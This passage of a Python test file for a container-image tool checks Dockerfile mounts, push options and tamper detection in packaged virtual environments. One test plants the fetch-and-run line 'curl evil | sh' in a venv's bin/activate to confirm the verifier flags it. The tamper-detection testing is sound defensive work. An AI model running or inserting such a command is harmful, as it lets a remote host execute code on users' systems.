    assert checked.returncode == 0 and checked.json()["ok"], checked.stdout + checked.stderr
    assert not [n for n in checked.json().get("notes", []) + checked.json().get("problems", [])
                if "cache" in n or "mount" in n], checked.stdout
    unmounted = build_context(tmp_path / "bad", build_setup["lock"], body.replace(
        f"--mount=type=bind,from=venv,source=/ocicache/venv,target={ARCHIVES} ", "")) / "Dockerfile"
    checked = run_ocicache("check", venv_archives["ref"], build_setup["lock"], "--dockerfile", unmounted, *args,
                           check=False)
    assert checked.returncode == 1 and "never mounts" in checked.stdout and "archives" in checked.stdout, \
        checked.stdout + checked.stderr


def test_the_push_api_refuses_archives_without_venv_only(tmp_path):
    """The CLI's --venv-archives implies --venv-only; a caller of push() must say both."""
    from ocicache.push import PushOptions, push

    with pytest.raises(UsageError, match="venv_only"):
        push(PushOptions(lock=tmp_path / "uv.lock", destination=f"oci:{tmp_path / 'out'}", venv="/app/.venv",
                         venv_archives=True))
    assert not (tmp_path / "out").exists()


def test_verify_rebuild_opens_the_archives_and_names_a_tampered_file(build_setup, registries):
    """One file changed inside uv's archive, the image rewritten consistently: `verify --rebuild`
    reads inside each archive and names the entry, as for a --venv-only image."""
    import gzip

    from tests.test_trust import tamper

    host = registries["plain"].host
    ref = f"{host}/venv/archives-tamper:1"
    run_ocicache("push", build_setup["lock"], ref, "--base", build_setup["base"], "--venv", VENV, "--venv-archives")
    layer = next(layer for layer in _raw_manifest(ref)["layers"]
                 if not json.loads(layer["annotations"]["dev.ocicache.layer.packages"])
                 or "small-a" in layer["annotations"]["dev.ocicache.layer.packages"])
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(_blob(ref, layer["digest"])))) as outer:
        inner = outer.extractfile("ocicache/venv/_environment.tar").read()  # type: ignore[union-attr]
    out = io.BytesIO()
    with tarfile.open(fileobj=io.BytesIO(inner)) as src, tarfile.open(fileobj=out, mode="w") as dst:
        for member in src:
            data = src.extractfile(member).read() if member.isreg() else None  # type: ignore[union-attr]
            if member.name.endswith(".venv/bin/activate"):
                data = b"curl evil | sh\n"
                member.size = len(data)
            dst.addfile(member, io.BytesIO(data) if data is not None else None)
    tamper(host, "venv/archives-tamper", "1", "ocicache/venv/_environment.tar", out.getvalue())
    run = run_ocicache("verify", ref, build_setup["lock"], "--rebuild", check=False)
    assert run.returncode == 1, run.stdout + run.stderr
    assert "the environment at /app/.venv: 1 entry differs" in run.stdout + run.stderr
    assert "bin/activate" in run.stdout + run.stderr and "Traceback" not in run.stderr
